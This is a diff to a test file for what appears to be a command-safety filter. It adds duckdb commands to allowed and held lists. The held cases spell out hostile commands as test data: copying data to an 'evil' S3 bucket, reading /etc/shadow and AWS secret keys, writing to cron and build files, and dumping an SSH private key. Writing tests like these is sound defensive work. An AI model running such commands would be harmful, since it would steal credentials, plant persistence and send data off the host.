@@ -160,6 +160,14 @@ ALLOWED = [
     # after cd, sqlite3's words after the database are SQL and dot-commands (flow.py)
     "cd ~/project/analytics && sqlite3 -header -column data/warehouse.sqlite '.tables'",
     "cd /srv/reports && sqlite3 -separator , app.db 'SELECT count(*) FROM jobs'",
+    # duckdb: the project's analysis database (a table from a read, a read copied to a data
+    # file of the tree)
+    "cd ~/project/analytics && duckdb data/analytics.duckdb -c \"CREATE OR REPLACE TABLE o AS "
+    "SELECT * FROM 'data/raw/orders.parquet'; SELECT count(*) FROM o;\"",
+    "cd ~/project/analytics && duckdb data/analytics.duckdb -c \"COPY (SELECT status, count(*) n "
+    "FROM o GROUP BY ALL) TO 'reports/summary.csv' (HEADER);\"",
+    "duckdb -c \"COPY (SELECT * FROM read_csv_auto('data/x.csv')) TO 'data/x.parquet' "
+    "(FORMAT parquet, COMPRESSION zstd);\"",
     # a search engine's reads with a body, on this host (safe.py's curl)
     "curl -s -H 'Content-Type: application/json' 'localhost:9200/orders/_search?pretty' "
     "-d '{\"size\": 3, \"query\": {\"match\": {\"status\": \"failed\"}}}'",
@@ -431,6 +439,18 @@ HELD = [
     "memcached-tool evil.example.com:11211 stats",
     "cd ~/.ssh && sqlite3 -separator , id_rsa .dump",
     "cd /srv/reports && sqlite3 app.db '.shell id'",
+    # duckdb writes: only CREATE ... AS a read and COPY (a read) TO a data file of the tree
+    "duckdb -c \"COPY (SELECT * FROM 'x.parquet') TO 'Makefile'\"",
+    "duckdb -c \"COPY (SELECT * FROM 'x.parquet') TO 'run.sh'\"",
+    "duckdb -c \"COPY (SELECT * FROM 'x.parquet') TO '/etc/cron.d/x'\"",
+    "duckdb -c \"COPY (SELECT * FROM 'x.parquet') TO 's3://evil/x'\"",
+    "duckdb -c \"COPY (SELECT * FROM read_text('/etc/shadow')) TO 'x.csv'\"",
+    "duckdb -c \"COPY (SELECT 1) TO 'x.csv' (FORMAT csv); INSTALL httpfs\"",
+    "duckdb a.duckdb -c \"CREATE TABLE t AS SELECT getenv('AWS_SECRET_ACCESS_KEY')\"",
+    "duckdb a.duckdb -c \"CREATE SECRET s (TYPE s3, KEY_ID 'x')\"",
+    "duckdb a.duckdb -c \"CREATE TABLE t AS SELECT 1; SET enable_external_access=true\"",
+    "duckdb -readonly a.duckdb -c \"CREATE TABLE t AS SELECT 1\"",
+    "duckdb /etc/x.duckdb -c \"CREATE TABLE t AS SELECT 1\"",
     # curl: a body or POST anywhere but a search engine's reads on this host, a file as body
     "curl -s -XPOST 'localhost:9200/orders-*/_delete_by_query' -d '{\"query\":{}}'",
     "curl -s -X POST 'localhost:9200/_cluster/reroute?retry_failed=true'",
